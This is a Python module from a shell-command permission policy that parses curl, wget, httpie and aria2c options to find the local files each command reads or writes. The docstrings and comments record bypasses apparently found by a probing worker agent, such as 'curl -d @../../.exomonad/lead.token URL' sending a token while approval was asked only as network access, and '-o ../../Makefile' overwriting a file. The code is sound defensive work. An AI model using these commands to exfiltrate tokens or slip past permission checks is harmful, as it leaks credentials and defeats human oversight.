"""The local files an HTTP client reads and writes through its options.

Found probing as a worker: ``curl`` and ``wget`` were judged only by the hosts they
reach, so ``curl -T ../../.exomonad/lead.token file:///p/.worktrees/w1/x`` copied the
lead's token into the worktree, allowed; ``curl -d @../../.exomonad/lead.token URL``
and ``wget --post-file`` reached a person as "network access to URL" (approving sent
the token); ``curl -o ../../Makefile URL`` overwrote the lead's file under the same
question. Each file an option names is now a read or a write of its own, judged as
``cat`` or ``>`` of it would be.

>>> from exomonad.policy.shell_env import scan_options
>>> from exomonad.policy.shell_lex import Word
>>> words = [Word(t) for t in "-sS -d @../t -F f=<k;type=x -o out URL".split()]
>>> _, opts = scan_options(words, CURL_WITH_ARG)
>>> http_files("curl", [], opts, "/w")
[ReadFile(path='/t', recursive=False, include=()), ReadFile(path='/w/k', \
recursive=False, include=()), WriteFile(path='/w/out')]
"""

from __future__ import annotations

import posixpath
import re

from exomonad.policy.actions import Action, ReadFile, Unknown, WriteFile
from exomonad.policy.shell_env import Options
from exomonad.policy.shell_lex import Word
from exomonad.policy.shell_paths import resolve_path
from exomonad.policy.shell_reads import flags, option_set

__all__ = [
    "ARIA2_WITH_ARG",
    "CURL_WITH_ARG",
    "HTTPIE_WITH_ARG",
    "WGET_WITH_ARG",
    "curl_globbing",
    "globbed",
    "http_files",
]

#: curl's options naming a file it reads, as a whole value (``-T``: :data:`_CURL_UPLOADS`).
_CURL_READS = ("-K", "--config", "--netrc-file", "--key", "--cert", "--cacert", "--capath",
               "--proxy-cacert", "--proxy-cert", "--proxy-key", "--crlfile", "--etag-compare",
               "--hsts", "--alt-svc")  # fmt: skip
#: curl's options naming the files it uploads (globbed as its URLs are: ``-T '{a,b}'``).
_CURL_UPLOADS = ("-T", "--upload-file")
#: Options that make curl read a configuration file, which may name any file it reads or
#: writes (found probing: ``upload-file = "../../.exomonad/lead.token"`` in a worktree
#: file given to ``curl -K`` copied the token, allowed as a read of the worktree file).
_CURL_CONFIG = ("-K", "--config")
#: curl's options whose value reads a file when it starts with ``@``.
_CURL_AT = ("-d", "--data", "--data-ascii", "--data-binary", "--json", "-H", "--header",
            "--proxy-header", "--url-query")  # fmt: skip
#: curl's write-out format (``-w``): ``@FILE`` reads it from a file; ``%output{FILE}``
#: (curl 8.3 and later; ``%output{>>FILE}`` appends) writes what follows to FILE.
_CURL_WRITE_OUT = ("-w", "--write-out")
_OUTPUT_TO = re.compile(r"%output\{", re.IGNORECASE)
#: What curl's URL globbing expands (``{a,b}``, ``[1-3]``; ``-g`` turns it off).
_URL_GLOB = re.compile(r"[{\[]")
#: An output name curl fills from a URL's pattern (``-o '#1.txt'``).
_GLOB_REF = re.compile(r"#[0-9]")
#: curl's options reading a file after ``@`` unless a ``=`` comes first (``name@file``).
_CURL_NAME_AT = ("--data-urlencode", "--variable")
#: curl's form options: ``name=@file`` or ``name=<file`` (``;type=...`` may follow).
_CURL_FORMS = ("-F", "--form")
#: curl's options naming a file (or, ``--output-dir``, a directory) it writes.
_CURL_WRITES = ("-o", "--output", "--output-dir", "-D", "--dump-header", "-c",
                "--cookie-jar", "--trace", "--trace-ascii", "--stderr", "--etag-save",
                "--libcurl", "--hsts", "--alt-svc")  # fmt: skip
#: wget's options naming a file (or directory) it reads / writes.
_WGET_READS = ("-i", "--input-file", "--post-file", "--body-file", "--load-cookies",
               "--config", "--ca-certificate", "--certificate", "--private-key",
               "--ca-directory", "--crl-file", "--hsts-file", "--egd-file", "--random-file",
               "--input-metalink", "--warc-dedup")  # fmt: skip
_WGET_WRITES = ("-O", "--output-document", "-o", "--output-file", "-a", "--append-output",
                "-P", "--directory-prefix", "--save-cookies", "--warc-file",
                "--rejected-log", "--hsts-file", "--warc-tempdir")  # fmt: skip
#: wget's options that read a configuration (a wgetrc may name any file it reads or
#: writes) or run a program (``--use-askpass=COMMAND``).
_WGET_CONFIG = ("--config", "--use-askpass")
#: The wgetrc commands ``wget -e`` runs that name a file it reads / writes (their names
#: without case, ``_`` or ``-``, as wget reads them: ``-e post_file=F``, ``-e Post-File=F``),
#: and those that read another configuration or run a program.
_WGETRC_READS = frozenset({"postfile", "bodyfile", "input", "loadcookies", "certificate",
                           "privatekey", "cacertificate", "cadirectory", "crlfile",
                           "hstsfile", "egdfile", "randomfile", "inputmetalink",
                           "warccdxdedup"})  # fmt: skip
_WGETRC_WRITES = frozenset({"outputdocument", "logfile", "dirprefix", "savecookies",
                            "warcfile", "rejectedlog", "hstsfile", "warctempdir"})  # fmt: skip
_WGETRC_CONFIG = frozenset({"chooseconfig", "useaskpass"})

#: Options taking a value, for :func:`~exomonad.policy.shell_env.scan_options`.
CURL_WITH_ARG = option_set(
    "-A -b -c -C -d -D -e -E -F -H -K -m -o -P -Q -r -T -u -U -w -x -X -Y -y -z "
    "--data --data-raw --data-binary --data-urlencode --data-ascii --json --header "
    "--user-agent --referer --output --cookie --cookie-jar --user --proxy --request "
    "--max-time --connect-timeout --resolve --cacert --capath --cert --key --config --form "
    "--form-string --upload-file --write-out --retry --output-dir --limit-rate --interface "
    "--dns-servers --connect-to --unix-socket --abstract-unix-socket --dump-header --trace "
    "--trace-ascii --stderr --etag-save --etag-compare --hsts --alt-svc --libcurl "
    "--netrc-file --proxy-cacert --proxy-cert --proxy-key --crlfile --variable --url-query "
    "--proxy-header --url --proto --proto-redir --proto-default "
    "--preproxy --doh-url --socks4 --socks4a --socks5 --socks5-hostname"
)
WGET_WITH_ARG = option_set(
    "-O -o -a -P -U -e -t -T -w -i -B --output-document --output-file --append-output "
    "--directory-prefix --user-agent --header --tries --timeout --wait --input-file "
    "--post-data --post-file --body-file --user --password --load-cookies --save-cookies "
    "--method --body-data --config --ca-certificate --certificate --private-key "
    "--ca-directory --crl-file --hsts-file --warc-file --rejected-log --execute "
    "--egd-file --random-file --input-metalink --warc-dedup --warc-tempdir"
)

#: httpie's and xh's options naming a file they read / write.
_HTTPIE_READS = ("--cert", "--cert-key", "--session-read-only")
_HTTPIE_WRITES = ("-o", "--output")
#: httpie's request item separators, the longest first (at one place the longest wins),
#: and those that read a file: ``f=@F``, ``f:=@F``, ``h:@F``, ``q==@F`` (a query
#: parameter from a file; found probing, asked only as network access), a form's
#: ``f@F``, the body's ``@F``.
_ITEM_SEPARATORS = (":=@", "==@", "=@", ":@", ":=", "==", "=", ":", "@")
_ITEM_FILES = frozenset({":=@", "==@", "=@", ":@", "@"})
HTTPIE_WITH_ARG = option_set(
    "-o --output -a --auth -A --auth-type --session --session-read-only --cert --cert-key "
    "--verify --proxy --timeout --max-redirects --pretty -s --style -p --print "
    "--format-options --response-charset --response-mime --boundary --ssl --ciphers "
    "--default-scheme --unix-socket"
)
#: aria2c's options naming a file it reads / writes; its ``-o`` is within its ``-d``.
#: A configuration (``--conf-path``) or input file (``-i``: each URI may carry options
#: such as ``dir=``, ``out=``) may name any file: :data:`_ARIA2_CONFIG`.
_ARIA2_READS = ("-i", "--input-file", "--conf-path", "--load-cookies", "-T", "--torrent-file",
                "-M", "--metalink-file", "--netrc-path", "--server-stat-if",
                "--ca-certificate", "--certificate", "--private-key")  # fmt: skip
_ARIA2_WRITES = ("-d", "--dir", "-l", "--log", "--save-session", "--save-cookies",
                 "--dht-file-path", "--dht-file-path6", "--server-stat-of")  # fmt: skip
_ARIA2_CONFIG = ("-i", "--input-file", "--conf-path")
_ARIA2_HOOKS = (
    "--on-download-complete",
    "--on-download-error",
    "--on-download-start",
    "--on-download-stop",
    "--on-download-pause",
    "--on-bt-download-complete",
)
ARIA2_WITH_ARG = option_set(" ".join((*_ARIA2_READS, *_ARIA2_WRITES, *_ARIA2_HOOKS,
                                      "-o --out -x -s -k -j -U --user-agent --all-proxy "
                                      "--http-proxy --https-proxy --ftp-proxy")))  # fmt: skip


def _values(opts: Options, names: tuple[str, ...]) -> list[Word]:
    return [w for name in names for w in opts.get(name, []) if w is not None]


def _file(word: Word, text: str, cwd: str | None) -> str | None:
    """The path ``text`` (a part of ``word``) names; None when the command line does not
    tell it (an expansion in the word)."""
    return None if word.dynamic else resolve_path(cwd, Word(text, False, word.quoted))


def _after_at(word: Word, *, named: bool) -> str | None:
    """The file of an ``@file`` value (``named``: ``name@file`` too, unless ``=`` comes
    before the ``@``); None when the value is data, not a file, or is stdin (``@-``)."""
    text = word.text
    if named:
        at = text.find("@")
        if at < 0 or "=" in text[:at]:
            return None
        found = text[at + 1 :]
    elif text.startswith("@"):
        found = text[1:]
    else:
        return None
    return None if found in ("", "-") else found


#: A form field's ``;headers=@FILE`` (or ``<FILE``): headers read from a file, for a
#: file's part or a plain value (``-F 'a=b;headers=@F'``; found probing, asked only as
#: network access).
_FORM_HEADERS = re.compile(r";\s*headers=[@<]", re.IGNORECASE)


def _form_files(text: str) -> list[str] | None:
    """The files a form field ``name=@file`` (several: ``@a,b``), ``name=<file`` or
    ``...;headers=@file`` reads, each up to a ``;`` (or ``,``), blanks trimmed as curl
    trims them; both readings where curl's split is not read here. None when a name is
    quoted or escaped (``@"a;b"``): curl's unquoting is not modelled.

    >>> _form_files("f=@a.txt;type=text/plain,b"), _form_files("a=b; headers=@ h.txt")
    (['a.txt', 'b'], ['h.txt'])
    >>> _form_files("f=@a,b")
    ['a,b', 'a', 'b']
    >>> _form_files('f=@"x;y"'), _form_files('j={"a": 1}')
    (None, [])
    """
    _, eq, value = text.partition("=")
    headers = list(_FORM_HEADERS.finditer(value))
    if not eq or (value[:1] not in ("@", "<") and not headers):
        return []
    if '"' in value or "\\" in value:
        return None
    found: list[str] = []
    if value[:1] in ("@", "<"):
        body = value[1:]
        found.append(body.split(";", 1)[0].strip())
        if value[0] == "@":
            found += [part.split(";", 1)[0].strip() for part in body.split(",")]
    for match in headers:
        rest = value[match.end() :].split(";", 1)[0]
        found += [rest.strip(), rest.split(",", 1)[0].strip()]
    return [f for f in dict.fromkeys(found) if f not in ("", "-")]


def _write_out(word: Word, cwd: str | None) -> list[Action]:
    """What a ``-w`` format writes (``%output{FILE}``, ``%output{>>FILE}``) or, read
    from a file (``-w @F``), may write: found probing, ``curl -w '%output{../../Makefile}
    x'`` (curl 8.3 and later) was asked only as network access.

    >>> _write_out(Word("%output{>>../log}%{http_code}"), "/w/t")
    [WriteFile(path='/w/log')]
    """
    text = word.text
    if text.startswith("@"):
        named = [ReadFile(_file(word, text[1:], cwd))] if text[1:] not in ("", "-") else []
        return [*named, Unknown(f"curl reads its -w format from {text[1:]}, which may write "
                                "files (%output{FILE})")]  # fmt: skip
    out: list[Action] = []
    for match in _OUTPUT_TO.finditer(text):
        end = text.find("}", match.end())
        if end < 0:
            return [*out, Unknown(f"curl -w {text}")]
        target = text[match.end() : end].removeprefix(">>")
        out.append(WriteFile(_file(word, target, cwd) if target else None))
    return out


def curl_globbing(opts: Options) -> bool:
    """Whether curl expands ``{}``/``[]`` patterns in its URLs and ``-T`` files: unless
    ``-g`` (``--globoff``), which ``--next`` (``-:``) may drop for later URLs."""
    return flags(opts, "g", "--globoff") == 0 or flags(opts, ":", "--next") > 0


def globbed(text: str) -> bool:
    """Whether curl's globbing (when on) expands ``text`` (a URL, a ``-T`` file): a ``{``
    or ``[`` in it. What a pattern expands to, and the ``..`` after it then removed, is
    not modelled: such a file is :class:`Unknown`.

    >>> globbed("file:///w/{x}/../../y"), globbed("file:///w/x")
    (True, False)
    """
    return _URL_GLOB.search(text) is not None


def _paths(words: list[Word], cwd: str | None) -> list[str | None]:
    return [_file(w, w.text, cwd) for w in words if w.text != "-"]


def _wgetrc(words: list[Word], keys: frozenset[str], cwd: str | None) -> list[str | None]:
    """The files the ``wget -e KEY=FILE`` commands among ``words`` name, for ``keys``."""
    found: list[str | None] = []
    for word in words:
        key, eq, value = word.text.partition("=")
        name = key.strip().lower().replace("_", "").replace("-", "")
        if eq and name in keys and value.strip() != "-":
            found.append(_file(word, value.strip(), cwd))
    return found


def _files(reads: list[str | None], written: list[str | None]) -> list[Action]:
    return [*(ReadFile(p) for p in reads), *(WriteFile(p) for p in written)]


def _curl(opts: Options, cwd: str | None) -> list[Action]:
    """curl's files: whole values, ``@file`` data, ``name@file``, form files, a cookie
    file (a ``-b`` value without ``=``), what its ``-w`` format writes, and what it
    writes. :class:`Unknown`: a configuration file (``-K``), an option whose value
    expands variables (``--expand-*``, curl 8.3), a pattern in a ``-T`` file (curl
    globs it: ``-T '../../.exomon{a}d/lead.token'`` copied the token, read as the
    literal name), an output named from a URL's pattern (``-o '#1'``)."""
    unknown: list[Action] = []
    if any(opts.get(o) is not None for o in _CURL_CONFIG):
        given = " ".join(w.text for w in _values(opts, _CURL_CONFIG)) or "-K"
        unknown.append(Unknown(f"curl reads a configuration the command line does not show: "
                               f"-K {given}"))  # fmt: skip
    unknown += [Unknown(f"curl expands variables: {k}") for k in opts if k.startswith("--expand-")]
    globbing = curl_globbing(opts)
    uploads = _values(opts, _CURL_UPLOADS)
    unknown += [Unknown(f"curl expands the pattern in -T {w.text} (add -g to read it as is)")
                for w in uploads if globbing and globbed(w.text)]  # fmt: skip
    outputs = _values(opts, ("-o", "--output"))
    unknown += [Unknown(f"curl names its output -o {w.text} from a URL's pattern")
                for w in outputs if globbing and _GLOB_REF.search(w.text)]  # fmt: skip
    reads = _paths(_values(opts, _CURL_READS), cwd)
    reads += _paths([w for w in uploads if not (globbing and globbed(w.text))], cwd)
    reads += [_file(w, f, cwd) for w in _values(opts, _CURL_AT)
              if (f := _after_at(w, named=False)) is not None]  # fmt: skip
    reads += [_file(w, f, cwd) for w in _values(opts, _CURL_NAME_AT)
              if (f := _after_at(w, named=True)) is not None]  # fmt: skip
    for w in _values(opts, _CURL_FORMS):
        named = _form_files(w.text)
        if named is None:
            unknown.append(Unknown(f"curl reads the files a form field names: -F {w.text}"))
        reads += [_file(w, f, cwd) for f in named or []]
    reads += _paths([w for w in _values(opts, ("-b", "--cookie")) if "=" not in w.text], cwd)
    written = [a for w in _values(opts, _CURL_WRITE_OUT) for a in _write_out(w, cwd)]
    return [*unknown, *_files(reads, _paths(_values(opts, _CURL_WRITES), cwd)), *written]


def _wget(opts: Options, cwd: str | None) -> list[Action]:
    """wget's files, by option and by wgetrc line (``-e KEY=FILE``); a configuration
    file (``--config``, ``-e chooseconfig=``) or a program it runs (``--use-askpass``)
    is :class:`Unknown`, and so is a wgetrc line whose command is known only at run
    time."""
    commands = _values(opts, ("-e", "--execute"))
    unknown: list[Action] = [Unknown(f"wget reads a configuration or runs a program: {k}")
                             for k in _WGET_CONFIG if k in opts]  # fmt: skip
    for w in commands:
        key = w.text.partition("=")[0].strip().lower().replace("_", "").replace("-", "")
        if key in _WGETRC_CONFIG or (w.dynamic and not key.isalnum()):
            unknown.append(Unknown(f"wget reads a configuration or runs a program: -e {w.text}"))
    reads = _paths(_values(opts, _WGET_READS), cwd) + _wgetrc(commands, _WGETRC_READS, cwd)
    written = _paths(_values(opts, _WGET_WRITES), cwd) + _wgetrc(commands, _WGETRC_WRITES, cwd)
    return [*unknown, *_files(reads, written)]


def _item_file(text: str) -> tuple[bool, str | None]:
    """Whether an httpie request item reads a file, and its name (None when a ``\\``
    escape is in it): the first separator not escaped by a ``\\``, the longest at that
    place, as httpie finds it.

    >>> _item_file("q==@f.txt"), _item_file(r"a\\@b=@f"), _item_file("h:v@x"), _item_file("a:=1")
    ((True, 'f.txt'), (True, 'f'), (False, None), (False, None))
    """
    i = 0
    while i < len(text):
        if text[i] == "\\":
            i += 2
            continue
        sep = next((p for p in _ITEM_SEPARATORS if text.startswith(p, i)), None)
        if sep is not None:
            value = text[i + len(sep) :]
            if sep not in _ITEM_FILES or not value:
                return False, None
            return True, None if "\\" in value else value
        i += 1
    return False, None


def _httpie(items: list[Word], opts: Options, cwd: str | None) -> list[Action]:
    """httpie's or xh's request ``items`` reading files, its session and output files."""
    found = [(w, _item_file(w.text)) for w in items]
    reads = [None if f is None else _file(w, f, cwd) for w, (read, f) in found if read]
    reads += _paths(_values(opts, _HTTPIE_READS), cwd)
    verify = [w for w in _values(opts, ("--verify",))
              if w.text.lower() not in ("yes", "no", "true", "false")]  # fmt: skip
    sessions = [w for w in _values(opts, ("--session",)) if "/" in w.text or w.dynamic]
    reads += _paths(verify + sessions, cwd)
    return _files(reads, _paths(_values(opts, _HTTPIE_WRITES) + sessions, cwd))


def _aria2(opts: Options, cwd: str | None) -> list[Action]:
    """aria2c's files; a command it runs on an event (``--on-download-complete``) is
    :class:`~exomonad.policy.actions.Unknown`."""
    hooks = [f"{k}={' '.join(w.text for w in ws if w is not None)}"
             for k, ws in opts.items() if k.startswith("--on-")]  # fmt: skip
    configs = [Unknown(f"aria2c reads options from {k} {' '.join(w.text for w in ws if w)}")
               for k, ws in opts.items()
               if any(opts.means(k, c) for c in _ARIA2_CONFIG)]  # fmt: skip
    reads = _paths(_values(opts, _ARIA2_READS), cwd)
    written = _paths(_values(opts, _ARIA2_WRITES), cwd)
    dirs = _values(opts, ("-d", "--dir"))
    base = _file(dirs[-1], dirs[-1].text, cwd) if dirs else cwd
    for out in _values(opts, ("-o", "--out")):
        written.append(None if base is None or out.dynamic
                       else posixpath.normpath(posixpath.join(base, out.text)))  # fmt: skip
    return [*(Unknown(f"aria2c runs {h}") for h in hooks), *configs, *_files(reads, written)]


def http_files(name: str, items: list[Word], opts: Options, cwd: str | None) -> list[Action]:
    """What ``curl``, ``wget``, httpie, ``xh`` or ``aria2c`` reads and writes of the
    local files its options (and httpie's request ``items``) name."""
    if name in ("http", "https", "xh"):
        return _httpie(items, opts, cwd)
    if name == "aria2c":
        return _aria2(opts, cwd)
    if name == "wget":
        return _wget(opts, cwd)
    return _curl(opts, cwd) if name == "curl" else []
